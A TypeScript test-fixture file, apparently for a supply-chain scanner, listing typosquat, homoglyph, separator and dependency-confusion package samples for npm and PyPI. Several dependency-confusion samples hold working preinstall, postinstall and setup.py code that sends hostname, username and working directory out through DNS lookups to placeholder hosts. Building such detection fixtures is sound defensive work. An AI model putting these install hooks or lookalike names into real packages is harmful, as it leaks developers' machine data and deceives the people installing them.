import { casesOf, type Facts } from '../case';
import { npm, sdistOf, wheelOf, type NpmParts } from '../packages';

const fresh = (takenFor: string, more: Partial<Facts> = {}): Facts => ({
  now: '2026-07-01T12:00:00Z',
  publishedAt: '2026-06-30T12:00:00Z',
  firstPublishedAt: '2026-06-30T12:00:00Z',
  publisher: 'fresh-account',
  weeklyDownloads: 14,
  takenFor,
  ...more,
});
const clean = (about: string): NpmParts => ({ about });

/** Nothing but the name accuses any of these: the code is honest. */
export const typosquat = casesOf({
  id: 'kind-typosquat',
  incident: 'kind',
  kind: 'name',
  judgedBy: 'names',
  seen: 'a new name one letter away from a very popular one',
  replica: { sample: npm('expresss', '4.19.3', clean('A web framework.')), facts: fresh('express') },
  renamed: { sample: npm('lodahs', '4.17.22', clean('Functions.')), facts: fresh('lodash') },
  reObfuscated: {
    seen: 'a new name with a digit for a letter of a very popular one',
    sample: npm('1odash', '4.17.23', clean('Functions.')),
    facts: fresh('lodash'),
  },
  otherStage: {
    seen: 'the same in the other ecosystem',
    sample: wheelOf('reqeusts', '2.32.9', { about: 'HTTP for people.' }),
    facts: fresh('requests'),
  },
});

export const homoglyph = casesOf({
  id: 'kind-homoglyph',
  incident: 'kind',
  kind: 'name',
  judgedBy: 'names',
  seen: 'a new name that looks like a popular one because rn is read as m',
  replica: { sample: npm('cornmander', '12.1.0', clean('Commands.')), facts: fresh('commander') },
  renamed: {
    seen: 'a new name that looks like a popular one because vv is read as w',
    sample: npm('vvebpack', '5.99.0', clean('Bundles.')),
    facts: fresh('webpack'),
  },
  reObfuscated: {
    seen: 'a new name with a digit that looks like a letter of a popular one',
    sample: npm('ax1os', '1.9.1', clean('HTTP.')),
    facts: fresh('axios'),
  },
  otherStage: {
    seen: 'a new name of the other ecosystem that looks like a popular one',
    sample: wheelOf('nurnpy', '2.1.0', { about: 'Arrays.' }),
    facts: fresh('numpy'),
  },
});

export const separators = casesOf({
  id: 'kind-separators',
  incident: 'kind',
  kind: 'name',
  judgedBy: 'names',
  seen: 'a new name that is a popular one without its separator',
  replica: {
    sample: npm('crossenv', '7.0.5', clean('Variables of the environment.')),
    facts: fresh('cross-env'),
  },
  renamed: {
    seen: 'a new name that is a popular one with another separator',
    sample: npm('body_parser', '1.20.9', clean('Bodies of requests.')),
    facts: fresh('body-parser'),
  },
  reObfuscated: {
    seen: 'a new name that is a popular scoped one without its scope',
    sample: npm('types-node', '22.0.1', clean('Types.')),
    facts: fresh('@types/node'),
  },
  otherStage: {
    seen: 'a new name of the other ecosystem that is a popular one with its words swapped',
    sample: wheelOf('dateutil-python', '2.9.1', { about: 'Dates.' }),
    facts: fresh('python-dateutil'),
  },
});

const phone = (host: string) => `const os = require('os');
const dns = require('dns');
const label = Buffer.from(os.hostname() + '|' + os.userInfo().username + '|' + process.cwd()).toString('hex').slice(0, 60);
dns.lookup(label + '.${host}', () => {});
`;
const INTERNAL: Partial<Facts> = { internalName: true, weeklyDownloads: 0 };

export const confusion = casesOf({
  id: 'kind-dependency-confusion',
  incident: 'kind',
  kind: 'name',
  judgedBy: 'facts',
  seen: 'the name of an internal package with a very high version, whose hook tells host, user and folder in a DNS query',
  replica: {
    sample: npm('acme-billing-core', '99.9.9', {
      about: 'Internal.',
      manifest: { scripts: { preinstall: 'node index.js' } },
      index: (honest) => `${honest}\n${phone('cb.acme-research.invalid')}`,
    }),
    facts: fresh('acme-billing-core', INTERNAL),
  },
  renamed: {
    sample: npm('@acme-internal/ui-tokens', '1000.0.1', {
      about: 'Tokens.',
      manifest: { scripts: { postinstall: 'node lib/ping.js' } },
      files: {
        'lib/ping.js': phone('oob.invalid').replace('label', 'subdomain').replace('label +', 'subdomain +'),
      },
    }),
    facts: fresh('@acme-internal/ui-tokens', INTERNAL),
  },
  reObfuscated: {
    seen: 'the name of an internal package with a very high version and honest code: only the name and version show',
    sample: npm('acme-billing-core', '99.10.0', clean('Internal.')),
    facts: fresh('acme-billing-core', INTERNAL),
  },
  otherStage: {
    seen: 'the same in the other ecosystem, from setup.py',
    sample: sdistOf('acme-ml-features', '99.0.0', {
      about: 'Internal.',
      setup: (honest) => `import getpass
import os
import socket

label = ("%s|%s|%s" % (socket.gethostname(), getpass.getuser(), os.getcwd())).encode().hex()[:60]
try:
    socket.gethostbyname(label + ".cb.acme-research.invalid")
except OSError:
    pass
${honest}`,
    }),
    facts: fresh('acme-ml-features', INTERNAL),
  },
});
